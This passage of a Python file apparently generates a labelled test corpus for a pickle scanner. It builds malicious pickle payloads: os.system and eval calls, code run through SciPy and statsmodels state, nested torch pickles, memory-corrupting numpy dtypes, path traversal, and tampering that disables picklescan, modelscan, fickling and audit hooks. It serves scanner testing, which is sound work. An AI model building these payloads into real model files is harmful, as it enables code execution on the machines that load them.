    add("deferred-scipy-template", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "norm_gen").empty_tuple().newobj().value({"_parse_arg_template": CODE, "shapes": None}).build().stop(), "unsafe", "pickle/unexpected-state", "scipy.stats executes this text in __setstate__: only names of SciPy in the file")
    add("deferred-statsmodels-formula", DEFERRED, Pickle(2).glob("statsmodels.base.data", "PandasData").empty_tuple().newobj().value({"restore_model_spec": True, "formula": CODE, "frame": None}).build().stop(), "unsafe", "pickle/unexpected-state", "statsmodels evaluates the formula in __setstate__")
    add("deferred-object-pointers", DEFERRED, Pickle(2).value(object_array(part().value(b"A" * 8), 0)).stop(), "unsafe", "pickle/unexpected-state", "an object dtype without its flags: bytes of the file become object pointers")
    add("deferred-field-past-end", DEFERRED, Pickle(2).value(part().call("numpy", "dtype", "V8", False, True).mark().value(3).value("|").none().value(("a",)).value({"a": (made("numpy", "dtype", "f8", False, True), 4096)}).value(8).value(1).value(0).tuple().build()).stop(), "unsafe", "pickle/unexpected-state", "a field past its item reads and writes foreign memory")
    add("deferred-nested-torch", DEFERRED, whole("torch.storage", "_load_from_bytes", Pickle(2).call("os", "system", MARK).stop().data), "unsafe", "pickle/nested-pickle")
    add("deferred-nested-magic", DEFERRED, whole("torch.storage", "_load_from_bytes", bytes.fromhex("80028a0a6cfc9c46f9206aa850192e") + Pickle(2).call("os", "system", MARK).stop().data), "unsafe", "pickle/nested-pickle")
    add("deferred-joblib-file", DEFERRED, Pickle(2).glob("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj().value({"filename": "../../SALLYPORT_INERT"}).build().stop(), "unsafe", "pickle/unexpected-state")
    add("deferred-joblib-zipped", DEFERRED, Pickle(2).glob("joblib.numpy_pickle_compat", "ZNDArrayWrapper").empty_tuple().newobj().value({"filename": "../../SALLYPORT_INERT"}).build().stop(), "unsafe", None)
    add("deferred-zoneinfo", DEFERRED, Pickle(2).apply(part().apply(ref("builtins", "getattr"), ref("zoneinfo", "ZoneInfo"), "_unpickle"), "../../etc/SALLYPORT_INERT", 0).stop(), "unsafe", UNSAFE)


def object_array(data, flags):
    dtype = part().call("numpy", "dtype", "O8", False, True).mark().value(3).value("|").none().none().none().value(-1).value(-1).value(flags).tuple().build()
    array = part().apply(ref("numpy.core.multiarray", "_reconstruct"), ref("numpy", "ndarray"), (0,), b"b")
    return array.mark().value(1).value((1,)).value(dtype).value(False).value(data).tuple().build()


def tampering():
    add("tamper-safe-globals", TAMPER, Pickle(2).apply(ref("torch.serialization", "add_safe_globals"), [ref("os", "system")]).stop(), "malicious", None)
    add("tamper-safe-globals-list", TAMPER, Pickle(2).glob("torch._weights_only_unpickler", "_marked_safe_globals_set").mark().value("x").raw(b"\x90").stop(), "malicious", "pickle/scanner-tampering")
    add("tamper-picklescan", TAMPER, Pickle(2).glob("picklescan.scanner", "_unsafe_globals").value("os").value([]).setitem().stop(), "malicious", "pickle/scanner-tampering")
    add("tamper-modelscan", TAMPER, whole("modelscan.modelscan", "ModelScan"), "malicious", "pickle/scanner-tampering")
    add("tamper-fickling", TAMPER, whole("fickling.hook", "run_hook"), "malicious", "pickle/scanner-tampering")
    add("tamper-audit-hook", TAMPER, Pickle(2).apply(ref("sys", "addaudithook"), ref("builtins", "len")).stop(), "malicious", "pickle/scanner-tampering")
    add("tamper-warnings", TAMPER, whole("warnings", "simplefilter", "ignore"), "malicious", "pickle/scanner-tampering")
    add("tamper-logging", TAMPER, whole("logging", "disable", 50), "malicious", "pickle/scanner-tampering")
    add("tamper-copyreg", TAMPER, Pickle(2).apply(ref("copyreg", "pickle"), ref("builtins", "int"), ref("os", "system")).stop(), "malicious", None)
    add("tamper-dispatch-table", TAMPER, Pickle(2).glob("copyreg", "dispatch_table").glob("builtins", "int").glob("os", "system").setitem().stop(), "unsafe", None)
    add("tamper-package-registry", TAMPER, Pickle(2).apply(ref("torch.serialization", "register_package"), 0, ref("builtins", "len"), ref("os", "system")).stop(), "malicious", None)
    add("tamper-find-class", TAMPER, Pickle(4).sglob("pickle", "_Unpickler").none().value({"find_class": ref("builtins", "getattr")}).tuple2().build().stop(), "unsafe", "pickle/build-on-foreign")
    add("tamper-forward-hook", TAMPER, Pickle(2).apply(ref("torch.nn.modules.module", "register_module_forward_hook"), ref("os", "system")).stop(), "malicious", None)


def around_the_lists():
    """Only names that are known to be safe, or such names put to a use that they are not known for."""
    system, state = ref("os", "system"), "pickle/unexpected-state"
    estimator = part().glob("sklearn.linear_model._logistic", "LogisticRegression").empty_tuple().newobj()
    namespace = part().glob("argparse", "Namespace").empty_tuple().newobj()
    method = part().apply(ref("builtins", "getattr"), part().value(estimator), "fit")
    add("around-append-method", INDIRECT, Pickle(2).value(namespace).value({"append": method}).build().value(1).append().stop(), "unsafe", None)
    add("around-extend-partial", INDIRECT, Pickle(2).value(estimator).value({"extend": made_partial(ref("builtins", "sum"))}).build().mark().value([1]).appends().stop(), "unsafe", None)
    add("around-add-function", INDIRECT, Pickle(4).value(namespace).value({"add": ref("numpy", "mean")}).build().mark().value(1).raw(b"\x90").stop(), "unsafe", None)
    add("around-item-setstate", INDIRECT, Pickle(2).glob("yacs.config", "CfgNode").empty_tuple().newobj().value("__setstate__").value(ref("numpy", "mean")).setitem().value({"a": 1}).build().stop(), "unsafe", state, "attributes of this class are its items")
    add("around-slots-class", WRITE, Pickle(2).value(estimator).value((None, {"__class__": ref("pathlib", "PosixPath")})).build().stop(), "unsafe", state)
    add("around-frame-class", WRITE, Pickle(2).glob("pandas.core.frame", "DataFrame").empty_tuple().newobj().value({"_typ": "dataframe", "__class__": ref("pandas", "Series")}).build().stop(), "unsafe", state)
    add("around-enum-member", WRITE, Pickle(2).apply(ref("transformers.trainer_utils", "IntervalStrategy"), "no").value({"_value_": "steps"}).build().stop(), "unsafe", state, "members of an enum belong to the whole process")
    add("around-shared-dtype", WRITE, Pickle(2).call("numpy", "dtype", "f8", False, False).value((3, "<", None, None, None, 1, 1, 0)).build().stop(), "unsafe", state, "without a copy this is the dtype of the whole process")
    add("around-logger-state", WRITE, Pickle(2).call("logging", "getLogger", "x").value({"disabled": True}).build().stop(), "unsafe", state)
    add("around-parameter-class", WRITE, Pickle(2).apply(ref("torch._utils", "_rebuild_parameter_with_state"), None, False, {}, {"__class__": ref("torch", "Tensor")}).stop(), "undetermined", "pickle/unexpected-arguments", "a state that PyTorch sets attribute by attribute")
    add("around-index-of-another", INDIRECT, Pickle(2).apply(ref("pandas.core.indexes.base", "_new_Index"), ref("pathlib", "PosixPath"), {"a": 1}).stop(), "undetermined", "pickle/unexpected-arguments", "a helper of pandas makes an object of another package")
    add("around-index-of-memmap", INDIRECT, Pickle(2).apply(ref("pandas.core.indexes.base", "_new_Index"), ref("numpy", "memmap"), {"filename": PATH, "mode": "w+"}).stop(), "unsafe", "pickle/dangerous-import")
    add("around-reconstruct-memmap", INDIRECT, Pickle(2).apply(ref("numpy.core.multiarray", "_reconstruct"), ref("numpy", "memmap"), (0,), b"b").stop(), "unsafe", "pickle/dangerous-import")
    add("around-newobj-memmap", INDIRECT, Pickle(2).apply(ref("copyreg", "__newobj__"), ref("numpy", "memmap"), PATH, "uint8", "w+").stop(), "malicious", CALL)
    add("around-stored-getattr", DEFERRED, Pickle(2).value({"f": ref("builtins", "getattr")}).stop(), "unsafe", None)
    add("around-stored-loader", DEFERRED, Pickle(2).value({"f": ref("torch.storage", "_load_from_bytes")}).stop(), "unsafe", None)
    add("around-stored-rebuilder", DEFERRED, Pickle(2).value([ref("torch._tensor", "_rebuild_from_type_v2")]).stop(), "unsafe", None)
    add("around-stored-config", DEFERRED, Pickle(2).value([ref("transformers.models.auto.modeling_auto", "AutoModel")]).stop(), "undetermined", "pickle/unknown-import", "a class with methods that load")
    add("around-partial-getattr", DEFERRED, Pickle(2).value({"f": made_partial(ref("builtins", "getattr"))}).stop(), "unsafe", None)
    add("around-bound-loader", DEFERRED, Pickle(2).value([part().apply(ref("builtins", "getattr"), part().glob("torch.nn.modules.linear", "Linear").empty_tuple().newobj(), "load_state_dict")]).stop(), "unsafe", None)
    add("around-method-name", DEFERRED, Pickle(4).sglob("torch.nn.modules.module", "Module.load_state_dict").stop(), "undetermined", "pickle/unknown-import", "a method whose name says that it loads")
    add("around-storage-sixth", OPCODES, Pickle(2).value(("storage", ref("torch", "FloatStorage"), "0", "cpu", 4, system)).raw(b"Q").stop(), "unsafe", "pickle/dangerous-import")
    add("around-container-class", OPCODES, Pickle(2).value(("module", system, "x.py", "")).raw(b"Q").value((MARK,)).reduce().stop(), "malicious", CALL, "the old PyTorch form that yields the class it names")
    add("around-storage-key", OPCODES, Pickle(2).value(("storage", ref("torch", "FloatStorage"), "../../x", "cpu", 4)).raw(b"Q").stop(), "undetermined", "pickle/persistent-id", "a key that is a path")
    add("around-keywords", OPCODES, Pickle(4).sglob("datetime", "timedelta").value(()).value({"days": system}).newobj_ex().stop(), "unsafe", "pickle/dangerous-import")
    add("around-dict-key", DEFERRED, Pickle(2).empty_dict().value(system).none().setitem().stop(), "unsafe", "pickle/dangerous-import")
    add("around-set-item", DEFERRED, Pickle(4).raw(b"\x8f").mark().value(system).raw(b"\x90").stop(), "unsafe", "pickle/dangerous-import")
    add("around-frozenset-item", DEFERRED, Pickle(4).mark().value(system).raw(b"\x91").stop(), "unsafe", "pickle/dangerous-import")
    add("around-scalar-object", DEFERRED, Pickle(2).apply(ref("numpy.core.multiarray", "scalar"), made("numpy", "dtype", "O8", False, True), system).stop(), "unsafe", "pickle/dangerous-import")
    add("around-scalar-pointer", DEFERRED, Pickle(2).apply(ref("numpy.core.multiarray", "scalar"), made("numpy", "dtype", "O8", False, True), b"A" * 8).stop(), "undetermined", "pickle/unexpected-arguments", "an object made of raw bytes: numpy refuses it today")
    add("around-appended-later", MEMO, Pickle(2).value(namespace).empty_list().put(9).pop().value({"a": part().get(9)}).build().pop().get(9).value(system).append().stop(), "unsafe", "pickle/dangerous-import")
    add("around-popped-reference", MEMO, Pickle(2).value(system).pop().value([1, 2]).stop(), "unsafe", "pickle/dangerous-import")
    add("around-list-arguments", MEMO, Pickle(2).glob("builtins", "getattr").value([1, 2]).reduce().stop(), "unsafe", None)
    add("around-getter-dunder", TRUSTED, Pickle(2).apply(part().apply(ref("operator", "attrgetter"), "__globals__"), ref("torch.nn.functional", "relu")).stop(), "unsafe", None)
    add("around-getter-dotted", TRUSTED, Pickle(2).apply(part().apply(ref("operator", "attrgetter"), "a.__class__"), 1).stop(), "unsafe", None)
    add("around-class-globals", TRUSTED, Pickle(4).sglob("sklearn.base", "BaseEstimator.__init__.__globals__").stop(), "unsafe", WALK)
    add("around-path-module", TRUSTED, Pickle(4).sglob("os.path", "os.system").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("around-constant-walk", TRUSTED, Pickle(4).sglob("torch", "builtins.eval").value((CODE,)).reduce().stop(), "malicious", CALL)
    add("around-ctor-callee", INDIRECT, Pickle(2).apply(ref("numpy.random._pickle", "__randomstate_ctor"), "x", ref("builtins", "getattr")).stop(), "unsafe", None)
    add("around-registry-fill", TAMPER, Pickle(2).glob("copyreg", "_extension_registry").value(("os", "system")).value(7).setitem().pop().raw(b"\x82\x07").value((MARK,)).reduce().stop(), "unsafe", None)
    add("around-estimator-call", INDIRECT, Pickle(2).apply(ref("sklearn.linear_model._logistic", "LogisticRegression"), 1, 2).stop(), "undetermined", "pickle/unexpected-arguments", "estimators are never called with arguments")
    add("around-known-as-setter", INDIRECT, Pickle(2).apply(ref("builtins", "setattr"), estimator, "predict", system).stop(), "malicious", None)
    add("around-storage-magic-tail", DEFERRED, Pickle(2).apply(ref("torch.storage", "_load_from_bytes"), bytes.fromhex("80028a0a6cfc9c46f9206aa850192e") + b"\x80\x02M\xe9\x03." + Pickle(2).value({}).stop().data + Pickle(2).call("os", "system", MARK).stop().data + Pickle(2).value([]).stop().data).stop(), "unsafe", "pickle/nested-pickle")
    add("around-dtype-expression", EXHAUST, Pickle(2).call("numpy", "dtype", "(1000000000,1000000000)f8", False, True).stop(), "undetermined", "pickle/unexpected-arguments", "a dtype that numpy's own parser would expand")
    add("around-object-field", DEFERRED, Pickle(2).value(part().call("numpy", "dtype", "V8", False, True).mark().value(3).value("|").none().value(("a",)).value({"a": (made("numpy", "dtype", "O8", False, True), 0)}).value(8).value(1).value(0).tuple().build()).stop(), "unsafe", state)
    add("around-object-subarray", DEFERRED, Pickle(2).value(part().call("numpy", "dtype", "V16", False, True).mark().value(3).value("|").value((made("numpy", "dtype", "O8", False, True), (2,))).none().none().value(16).value(1).value(0).tuple().build()).stop(), "unsafe", state)
    add("around-object-frombuffer", DEFERRED, Pickle(5).apply(ref("numpy._core.numeric", "_frombuffer"), b"A" * 8, made("numpy", "dtype", "O8", False, True), (1,), "C").stop(), "undetermined", "pickle/unexpected-arguments", "an object array over raw bytes: numpy refuses it today")
    add("around-state-twice", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "gamma_gen").empty_tuple().newobj().put(1).value({"_parse_arg_template": "\ndef _parse_args(self, a,  loc=0, scale=1):\n    return (a, ), loc, scale\nimport os"}).build().stop(), "unsafe", state)
    add("around-slots-template", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "gamma_gen").empty_tuple().newobj().value((None, {"_parse_arg_template": CODE})).build().stop(), "unsafe", state)
    add("around-made-key", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "gamma_gen").empty_tuple().newobj().empty_dict().value(part().apply(ref("_codecs", "encode"), "_parse_arg_template", "latin1")).value(CODE).setitem().build().stop(), "unsafe", state)
    add("around-pair-template", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "gamma_gen").empty_tuple().newobj().value(({"_parse_arg_template": 1, CODE: 1}, {"a": 1, "b": 1})).build().stop(), "unsafe", state, "dict.update takes a dict of two keys for a pair")
    add("around-slots-formula", DEFERRED, Pickle(2).glob("statsmodels.base.data", "PandasData").empty_tuple().newobj().value(({"restore_model_spec": True, "formula": CODE}, None)).build().stop(), "unsafe", state)
    add("around-long-template", DEFERRED, Pickle(2).glob("scipy.stats._continuous_distns", "gamma_gen").empty_tuple().newobj().value({"_parse_arg_template": "\n" * 70000 + CODE}).build().stop(), "unsafe", state)


for family in (callables, late_names, indirect_calls, writes, opcodes, brokenness, grammar, memo, trusted, exhaustion, deferred, tampering, around_the_lists):
    family()
